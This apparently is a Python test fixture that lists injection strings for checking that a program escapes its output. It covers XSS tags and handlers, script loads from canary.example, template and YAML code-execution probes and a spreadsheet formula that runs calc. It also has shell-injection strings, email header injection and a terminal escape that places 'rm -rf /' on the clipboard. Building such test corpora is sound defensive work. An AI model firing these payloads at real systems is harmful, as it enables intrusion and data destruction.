"""Words that do harm where a program prints them raw, by the kind of harm.

What would run sets `window.ran`; what would load or lead elsewhere names `canary.example`.
"""

_RUN = "window.ran=1"
_ELSEWHERE = "https://canary.example"

INJECTIONS: dict[str, tuple[str, ...]] = {
    "tags": (
        f"<script>{_RUN}</script>", f"<SCRIPT>{_RUN}</SCRIPT>", f"<script/x>{_RUN}</script>", f"<script\t>{_RUN}</script >",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script src={_ELSEWHERE}/a.js></script>",
        "<script src=//canary.example/a.js></script>", f"<script type=module>{_RUN}</script>", "<script>", "</script>",
        f"<iframe src={_ELSEWHERE}></iframe>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
        f"<object data={_ELSEWHERE}></object>", f"<embed src={_ELSEWHERE}>", f"<link rel=stylesheet href={_ELSEWHERE}>",
        f"<link rel=preload as=image href={_ELSEWHERE}>", f"<base href={_ELSEWHERE}>",
        f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>", f"<style>@import '{_ELSEWHERE}';</style>",
        f"<style>body{{background:url({_ELSEWHERE})}}</style>", "<style>*{display:none}</style>",
        f"<form action={_ELSEWHERE}><button>", f"<isindex action={_ELSEWHERE}>", "<template><p>", "<plaintext>", "<xmp>",
        "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>", "<textarea>", "<title>", "<select><option>",
        "<frameset>", "<!doctype html>", "<?xml version='1.0'?>", "<!--", "-->", "--!>", "<![CDATA[", "]]>",
    ),
    "attributes": (
        f"<img src=x onerror={_RUN}>", f"<img src=x:x onerror='{_RUN}'>", f"<body onload={_RUN}>",
        f"<details open ontoggle={_RUN}>x</details>", f"<input autofocus onfocus={_RUN}>", f"<video src=x onerror={_RUN}>",
        f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>", f"<marquee onstart={_RUN}>x</marquee>",
        f"<a onmouseover={_RUN}>x</a>", f"<p style=animation-name:x onanimationstart={_RUN}>", f"<img src={_ELSEWHERE}/a.gif>",
        f"<img srcset='{_ELSEWHERE}/a.gif 1x'>", f"<div style=background:url({_ELSEWHERE})>", f"<table background={_ELSEWHERE}>",
        f'" onmouseover="{_RUN}', f"' onmouseover='{_RUN}", f'" autofocus onfocus="{_RUN}" x="', f"x onclick={_RUN} y",
        f"` onclick={_RUN} `", f'"><img src=x onerror={_RUN}>', f"'><img src=x onerror={_RUN}>", "\"'><", "'\"`",
        f"<a href=x tabindex=1 onfocus={_RUN}>", f"<button popovertarget=x onbeforetoggle={_RUN}>x</button>", '"/><"',
        f"</article><img src=x onerror={_RUN}>", f"</title><script>{_RUN}</script>", f"</style><script>{_RUN}</script>",
        f"</textarea><script>{_RUN}</script>", f"</p></li></ul></section></main><script>{_RUN}</script>",
    ),
    "schemes": (
        f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f" javascript:{_RUN}", f"javascript&colon;{_RUN}",
        f"&#106;avascript:{_RUN}", f"&#x6A;avascript:{_RUN}", f"jav&#x09;ascript:{_RUN}", f"jav&NewLine;ascript:{_RUN}",
        f"javascript://%0a{_RUN}", f"javascript:void({_RUN})", f"vbscript:{_RUN}", f"livescript:{_RUN}", f"mocha:{_RUN}",
        f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
        f"data:image/svg+xml,<svg onload={_RUN}>", f"blob:{_ELSEWHERE}/1", "file:///etc/passwd", "//canary.example/x",
        "\\\\canary.example\\x", "view-source:x", "feed:javascript:window.ran=1", "ws://canary.example", "x:y", ":x",
        f"{_ELSEWHERE}/?a=1&b=2\"'><", "https://a:b:c/[", "https://good.example@canary.example/", "about:blank",
    ),
    "links": (
        f"[x](javascript:{_RUN})", f"[x](<javascript:{_RUN}>)", f"[x](JAVASCRIPT:{_RUN})", f"[x](java&#10;script:{_RUN})",
        f"[x](&#1;javascript:{_RUN})", f"[x](data:text/html,<script>{_RUN}</script>)", f"<javascript:{_RUN}>",
        f"[x][y]\n\n[y]: javascript:{_RUN}", f"![x](javascript:{_RUN})", f"![x]({_ELSEWHERE}/a.gif)",
        f'![x]({_ELSEWHERE}/a.gif "t")', f"[![x]({_ELSEWHERE}/a.gif)](javascript:{_RUN})", f'[x]("onclick={_RUN})',
        f"[x](a \"' onclick={_RUN} '\")", f"[x](a '\" onclick={_RUN} \"')", f"[<img src=x onerror={_RUN}>](a)",
        f'[x](a" onclick="{_RUN})', f'[x](#"><script>{_RUN}</script>)', f"[x](vbscript:{_RUN})", "[x](/\\canary.example)",
        f"[x]({_ELSEWHERE}/\u202egpj.exe)", f"[https://good.example]({_ELSEWHERE})", f'<{_ELSEWHERE}/?"onclick={_RUN}>',
        f"`<script>{_RUN}</script>`", f"``` <script>{_RUN}</script>", f"~~~<img src=x onerror={_RUN}>", "[]()", "[](#)", "[[[[",
    ),
    "entities": (
        f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"&#x3c;script&#x3e;{_RUN}",
        f"&LT;script&GT;{_RUN}", f"&amp;lt;script&amp;gt;{_RUN}", f"&lt;img src=x onerror={_RUN}&gt;", "&quot;&apos;&#39;",
        "&#0;&#1;&#13;&#x1b;", "&#xD800;&#x110000;", "&nbsp;&shy;&zwj;", "&lt&gt&amp", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
        f"\u00abscript\u00bb{_RUN}", f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e", f"\u02c2script\u02c3{_RUN}",
        f"%3Cscript%3E{_RUN}%3C/script%3E", f"\\x3cscript\\x3e{_RUN}", f"\\u003cscript\\u003e{_RUN}", "&&&&;;;;",
    ),
    "mutations": (
        f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">', f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
        f"<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror={_RUN}&gt;", f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
        f"<img title='`><img src=x onerror={_RUN}>`'>", f"<a id=x tabindex=1 onfocus={_RUN}></a>#x",
        f"<!--><img src=x onerror={_RUN}>-->", f"<!-- --!><img src=x onerror={_RUN}>", f"<![<img src=x onerror={_RUN}>",
        f"<?<img src=x onerror={_RUN}>", f"</<img src=x onerror={_RUN}>", f"<x/><img/src=x/onerror={_RUN}>", f"<\u0000script>{_RUN}",
        f"<table><script>{_RUN}</script></table>", f"<select><script>{_RUN}</script></select>", f"<p><p><a><a><img src=x onerror={_RUN}>",
    ),
    "drawings": (
        f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<svg><script href={_ELSEWHERE}/a.js /></svg>",
        f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'>",
        f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><set attributeName=onmouseover to={_RUN}>",
        f"<svg><foreignObject><body onload={_RUN}></foreignObject>", f"<svg><image href={_ELSEWHERE}/a.png></svg>",
        f"<math href='javascript:{_RUN}'>x</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x",
        f"<svg><style>@import '{_ELSEWHERE}'</style></svg>", "</svg>", "</text></svg>",
    ),
    "templates": (
        "{{ 7 * 7 }}", "{{ config }}", "{{ policy.__class__ }}", "{{ policy.contact.__init__.__globals__ }}", "{{ policy }}",
        "{% raw %}", "{% endraw %}", "{% include '/etc/passwd' %}", "{# words #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{{", "}}}}",
        "{{ policy.contact.email }}", "{7}", "{count}", "%(words)s", "%s%s%n", "$words", "REDLETTER0BODY0SLOT", "REDLETTER0TITLE0SLOT",
        "constructor.constructor('window.ran=1')()", "{{constructor.constructor('window.ran=1')()}}", "__proto__", "\\g<0>\\1$1$&",
    ),
    "letters": (
        "\u202egnp.exe", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc", "a\u200bb\u200cc\u200dd", "\ufeffabc", "\u00adabc",
        "p\u0430ypal.com", "\u0391\u0392\u0395", "\u1d5c\u1d3f\u1d38", "\u2028\u2029", "\u0085", "a\u0301\u0301\u0301\u0301\u0301\u0301",
        "\U000e0041\U000e0042", "\ufe0f\ufe0e", "\u3164\u115f", "\U0001f468\u200d\U0001f469", "\uffff\ufffe", "\u200f\u200e", "\ufdfd" * 8,
    ),
    "controls": (
        "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://canary.example\x1b\\words\x1b]8;;\x1b\\", "\x1b]52;c;cm0gLXJmIC8=\x07",
        "\x1b[31mred", "\x9b31mred", "\x9d52;c;eA==\x9c", "\x1bP+q\x1b\\", "\x1b[6n", "\x1b[8m hidden", "\x1bc", "\x08\x08\x08over", "\x7f", "\x07",
        "a\x0bb\x0cc", "\x00", "\x01\x02\x03", "\x1a", "\x0e\x0f", "\x1b_Gf=100;AAAA\x1b\\", "\x1b]1337;File=:AA==\x07",
    ),
    "other forms": (
        "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", '","x":"y', "\\", "\\\\", '\\"', "\\u0000", "\\n", '"}]}', "}{", "null", "[]",
        "key: value", "- item", "? x", "&anchor", "*alias", "!!python/object/apply:os.system [id]", "!tag", "| block", "> folded", "%YAML 1.2", "@x", "`x`",
        "---", "...", "# x", "x # y", "'; DROP TABLE versions; --", "<x:y xmlns:x='z'>", "<!ENTITY a 'b'>&a;", "<rss><item>", "]]></content>",
        "| a | b |", "\\|", "***", "```", "    code", "1. x", "> x", "::error file=x::y", "::set-output name=x::y", "##[command]x", "%0A::error::x",
        "</summary></details>", "@everyone", "#1", "@octocat", "<!-- redletter -->", "$(touch canary)", "`touch canary`", "; touch canary", "../../etc/passwd",
    ),
    "headers": (
        "Words\r\nBcc: victim@canary.example", "Words\nSubject: other", "Words\r\n\r\nbody", "Words%0d%0aBcc:x@canary.example", "a@b.example\r\nRCPT TO:<c@d>",
        "=?utf-8?q?x?=", "Words\r.\r\nQUIT", "\r", "Words\u2028Bcc: x@canary.example", "Words\x0bBcc: x@canary.example", "a,b@c.example;d@e.example", "<a@b.example>",
    ),
}  # fmt: skip

ALL = tuple(words for kind in INJECTIONS.values() for words in kind)
